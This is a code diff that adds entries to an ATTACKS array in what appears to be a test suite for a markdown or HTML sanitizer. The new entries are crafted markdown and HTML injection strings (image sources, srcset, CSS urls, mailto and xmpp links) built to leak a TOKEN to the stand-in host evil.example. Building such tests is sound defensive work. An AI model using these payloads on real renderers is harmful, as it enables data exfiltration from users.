@@ -97,6 +97,23 @@ export const ATTACKS: readonly string[] = [
   '[a]()TOKEN)',
   '[[a](TOKEN)](b)',
   '![a][b]\n\n[b]: TOKEN "x"',
+  '<!--><b\nhref="https://evil.example/">TOKEN',
+  '<!-- --> \\<<div\na href="https://evil.example/">TOKEN',
+  '- <div\ntitle="https://evil.example/">TOKEN',
+  '<https:\\\nwww.evil.example>TOKEN',
+  '![a](\\\r\nTOKEN)',
+  '- ![a](\\\n TOKEN)',
+  '> ![a](//evil.example/?q=\\\n> TOKEN)',
+  '[a]: \u200bmailto:TOKEN\n\n[a]',
+  'www.](mailto:TOKEN',
+  '[^n]\n\n[^n]:](tel:TOKEN)',
+  'xmpp:TOKEN@evil.example',
+  '- <div><TOKEN src="https://evil.example/?q=\n"> TOKEN\n\n<p x="y">',
+  '<g</style =background:url(//evil.example/?q=TOKEN)>',
+  "![<i title='\"'>srcset='//evil.example/?q= TOKEN'](x)",
+  "![<!--\"-->srcset='//evil.example/?q= TOKEN'](x)",
+  "![[`]`](y)<i title='\"'>srcset='//evil.example/?q= TOKEN'](x)",
+  'a <pre><img src=//evil.example/?q=_">TOKEN',
 ]
 
 const PIECES = [
